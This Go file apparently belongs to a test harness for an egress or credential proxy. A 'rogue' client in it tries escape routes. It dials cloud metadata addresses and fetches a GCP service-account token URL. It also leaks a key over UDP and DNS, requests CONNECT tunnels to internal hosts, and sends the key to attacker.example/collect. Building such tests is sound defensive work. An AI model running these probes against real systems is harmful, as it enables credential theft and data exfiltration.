package demo

import (
	"bufio"
	"context"
	"fmt"
	"net"
	"net/http"
	"net/url"
	"strings"
	"time"
)

// knock is the timeout of a connection. Without a network every attempt fails
// at once.
const knock = 2 * time.Second

// network connects directly to addresses that a program on the machine could
// reach.
func (r *rogue) network(ctx context.Context) haul {
	h := haul{Try: "network"}
	d := net.Dialer{Timeout: knock}
	for _, place := range []string{"169.254.169.254:80", "[fd00:ec2::254]:80", "1.1.1.1:443", r.env("EBB_ITSELF"), r.env("PAY_ADDRESS")} {
		if c, err := d.DialContext(ctx, "tcp", place); err == nil {
			_ = c.Close()
			h.Got += " " + place
		}
	}
	return h
}

// names sends DNS queries, which could leak data to a name server: to those of
// the system for an existing name, and to a UDP socket of this machine.
func (r *rogue) names(ctx context.Context) haul {
	h := haul{Try: "names"}
	ctx, cancel := context.WithTimeout(ctx, 2*knock)
	defer cancel()
	if found, err := (&net.Resolver{PreferGo: true}).LookupHost(ctx, "example.com"); err == nil {
		h.Got = strings.Join(found, " ")
	}
	if answer := whisper(ctx, r.env("EAR"), r.key); answer != "" {
		h.Got += " " + answer
	}
	return h
}

// whisper sends one datagram and returns the response, "" if there is none
// within knock.
func whisper(ctx context.Context, place, what string) string {
	c, err := (&net.Dialer{}).DialContext(ctx, "udp", place)
	if err != nil {
		return ""
	}
	defer c.Close()
	_ = c.SetDeadline(time.Now().Add(knock))
	if _, err := c.Write([]byte(what)); err != nil {
		return ""
	}
	buf := make([]byte, 512)
	n, err := c.Read(buf)
	if err != nil {
		return ""
	}
	return string(buf[:n])
}

// proxy requests tunnels that the proxy must refuse.
func (r *rogue) proxy(ctx context.Context) haul {
	h := haul{Try: "proxy"}
	for _, place := range []string{"169.254.169.254:80", "127.0.0.1:22", "[::ffff:10.0.0.1]:443", r.env("EBB_ITSELF")} {
		h.Got += " " + r.tunnel(ctx, place)
	}
	return h
}

// metadata requests the metadata service of a cloud by its name, through the
// proxy.
func (r *rogue) metadata(ctx context.Context) haul {
	return r.show(ctx, "metadata", "https://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token")
}

// elsewhere sends the placeholder to another host.
func (r *rogue) elsewhere(ctx context.Context) haul {
	return r.show(ctx, "elsewhere", "https://attacker.example/collect")
}

// unescorted uses the attacker's own account, where the attacker could read
// stored data.
func (r *rogue) unescorted(ctx context.Context) haul {
	return r.request(ctx, "unescorted", http.MethodGet, chargePath, "Bearer pk_of_the_attacker")
}

// beyond uses the placeholder for an action that the credential does not cover.
func (r *rogue) beyond(ctx context.Context) haul {
	return r.request(ctx, "beyond", http.MethodPost, "/v1/charges/42/refund", "Bearer "+r.key)
}

// query puts the placeholder into the query, which servers log.
func (r *rogue) query(ctx context.Context) haul {
	return r.request(ctx, "query", http.MethodGet, chargePath+"?note="+url.QueryEscape(r.key), "Bearer "+r.key)
}

// tunnel requests a tunnel from the proxy and returns the status of the
// response.
func (r *rogue) tunnel(ctx context.Context, place string) string {
	proxy, err := url.Parse(r.env("HTTPS_PROXY"))
	if err != nil {
		return "none"
	}
	c, err := (&net.Dialer{Timeout: knock}).DialContext(ctx, "tcp", proxy.Host)
	if err != nil {
		return "none"
	}
	defer c.Close()
	_ = c.SetDeadline(time.Now().Add(5 * time.Second))
	if _, err := fmt.Fprintf(c, "CONNECT %[1]s HTTP/1.1\r\nHost: %[1]s\r\n\r\n", place); err != nil {
		return "none"
	}
	resp, err := http.ReadResponse(bufio.NewReader(c), &http.Request{Method: http.MethodConnect})
	if err != nil {
		return "none"
	}
	defer resp.Body.Close()
	return fmt.Sprint(resp.StatusCode)
}
